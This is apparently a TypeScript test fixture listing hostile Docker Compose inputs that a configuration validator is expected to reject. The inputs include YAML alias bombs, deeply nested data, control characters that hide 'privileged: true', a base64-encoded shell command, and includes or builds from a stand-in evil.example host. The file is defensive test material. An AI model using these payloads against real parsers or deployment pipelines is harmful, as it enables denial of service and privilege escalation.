import { type Attack, type AttackFile, atTop, compose, inService } from '../attack.ts';

const HARMLESS = 'version: "3.8"\nservices:\n  app:\n    image: nginx:1.27\n';
const nine = (name: string, of: string) => `x-${name}: &${name} [${Array(9).fill(`*${of}`).join(', ')}]`;

/** Requirement 23: what the readers of the files refuse before any rule looks at them. */
const READERS: readonly Attack[] = [
  compose(
    23,
    'a billion laughs',
    `x-a: &a [${Array(9).fill('lol').join(', ')}]\n${nine('b', 'a')}\n${nine('c', 'b')}\n${nine('d', 'c')} #!\n${nine('e', 'd')}\n${HARMLESS}`,
    { code: 'yaml-aliases', line: 1 },
  ),
  compose(23, 'many copies of one big block', copies(), { code: 'yaml-aliases', line: 1 }),
  compose(23, 'sixty thousand open brackets', `x-a: ${'['.repeat(60_000)}${']'.repeat(60_000)}`, {
    code: 'yaml-too-deep',
    line: 1,
  }),
  compose(23, 'maps nested fifty deep', `${nested(50)}${HARMLESS}`, { code: 'yaml-too-deep', line: 41 }),
  compose(23, 'half a megabyte and more', `${HARMLESS}#${'x'.repeat(530_000)}`, { code: 'yaml-too-big' }),
  compose(23, 'a hundred thousand values', `${HARMLESS}x-a: [${'1,'.repeat(100_000)}1]`, {
    code: 'yaml-too-big',
    line: 5,
  }),
  inService(23, 'a key twice, the second time with power', 'user: "1"\nuser: "0" #!', {
    code: 'yaml-duplicate-key',
  }),
  compose(
    23,
    'two merges in one map',
    'x-a: &a {user: "1"}\nx-b: &b {user: "0"}\nservices:\n  app:\n    <<: *a\n    <<: *b #!\n',
    { code: 'yaml-duplicate-key' },
  ),
  inService(23, 'bytes behind a tag', 'command: !!binary c2ggLWM= #!', { code: 'yaml-tag' }),
  inService(23, 'a tag of its own', 'user: !evil root #!', { code: 'yaml-tag' }),
  inService(23, 'a set', 'labels: !!set {a, b} #!', { code: 'yaml-tag' }),
  compose(23, 'a second document', `${HARMLESS}--- #!\nservices: {app: {privileged: true}}\n`, {
    code: 'yaml-documents',
  }),
  compose(23, 'a list as a key', `${HARMLESS}? [a, b]\n: c\n`, { code: 'yaml-key', line: 5 }),
  compose(23, 'an alias of itself', `${HARMLESS}x-a: &a [*a]\n`, { code: 'yaml-too-deep', line: 5 }),
];

/** Requirement 23 again: bytes that show one reader something else than another. */
const BYTES: readonly Attack[] = [
  bytes('UTF-16 with its mark', Buffer.from(`\ufeff${HARMLESS}`, 'utf16le'), 'not-utf8', 1),
  bytes('a byte that is no UTF-8', latin(`${HARMLESS}#\xe9\n`), 'not-utf8', 5),
  bytes('an overlong slash', latin(`${HARMLESS}# \xc0\xaf\n`), 'not-utf8', 5),
  bytes('a zero byte', Buffer.from(`${HARMLESS}# \0\n`), 'nul-byte', 5),
  bytes('a backspace', Buffer.from(`${HARMLESS}# privileged\b\n`), 'control-character', 5),
  bytes(
    'a next-line character',
    Buffer.from(`${HARMLESS}# \u0085privileged: true\n`),
    'control-character',
    5,
  ),
  bytes('a line separator', Buffer.from(`${HARMLESS}# \u2028privileged: true\n`), 'control-character', 5),
  bytes('a bare carriage return', Buffer.from(`${HARMLESS}# \rprivileged: true\n`), 'control-character', 5),
  bytes('text that reads backwards', Buffer.from(`${HARMLESS}# \u202eeurt\n`), 'control-character', 5),
  bytes('a second byte order mark', Buffer.from(`${HARMLESS}\ufeffx-a: 1\n`), 'control-character', 5),
  {
    ...{
      requirement: 23,
      name: 'an .env.sample with a zero byte',
      code: 'nul-byte',
      file: '.env.sample',
      line: 2,
    },
    files: [file('compose.yml', HARMLESS), file('.env.sample', 'A=1\nB=\0\n')],
  },
];

/** Requirement 24: files and code from elsewhere. */
const ELSEWHERE: readonly Attack[] = [
  atTop(24, 'include of a file', 'include: [/etc/compose.yml] #!', {
    ...{ code: 'remote-source', feature: 'include' },
  }),
  atTop(24, 'include from the network', 'include: #!\n  - https://evil.example/compose.yml', {
    ...{ code: 'remote-source', feature: 'include' },
  }),
  inService(24, 'build from the recipe', 'build: . #!', { code: 'remote-source', feature: 'build:.' }),
  inService(24, 'build from the network', 'build: #!\n  context: https://evil.example/x.git', {
    ...{ code: 'remote-source', feature: 'build' },
  }),
  inService(24, 'build with the network of the host', 'build: {context: ., network: host} #!', {
    ...{ code: 'remote-source', feature: 'build' },
  }),
  inService(24, 'extends of another file', 'extends: {file: ../other.yml, service: x} #!', {
    ...{ code: 'remote-source', feature: 'extends' },
  }),
  inService(24, 'a development loop', 'develop: {watch: [{path: /, action: sync}]} #!', {
    ...{ code: 'remote-source', feature: 'develop' },
  }),
  inService(24, 'another program as provider', 'provider: {type: evil} #!', {
    ...{ code: 'remote-source', feature: 'provider' },
  }),
  inService(24, 'the mounts of another container', 'volumes_from: [container:seatrial] #!', {
    ...{ code: 'remote-source', feature: 'volumes_from' },
  }),
  compose(
    24,
    'build behind an anchor and a merge',
    'x-base: &base\n  build: / #!\nservices:\n  app:\n    <<: *base\n    image: nginx:1\n',
    { code: 'remote-source', feature: 'build:/' },
  ),
];

export const SOURCES: readonly Attack[] = [...READERS, ...BYTES, ...ELSEWHERE];

function bytes(name: string, content: Buffer, code: string, line: number): Attack {
  return {
    requirement: 23,
    name,
    files: [{ path: 'compose.yml', content }],
    code,
    file: 'compose.yml',
    line,
  };
}

function latin(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

function file(path: string, content: string): AttackFile {
  return { path, content };
}

function nested(depth: number): string {
  return Array.from({ length: depth }, (_, index) => `${' '.repeat(index)}x-${index}:\n`).join('');
}

function copies(): string {
  const block = Array.from({ length: 300 }, (_, index) => `a${index}: 1`).join(', ');
  return `x-b: &b {${block}}\nx-1: *b\nx-2: *b\nx-3: *b\nx-4: *b\n${HARMLESS}`;
}
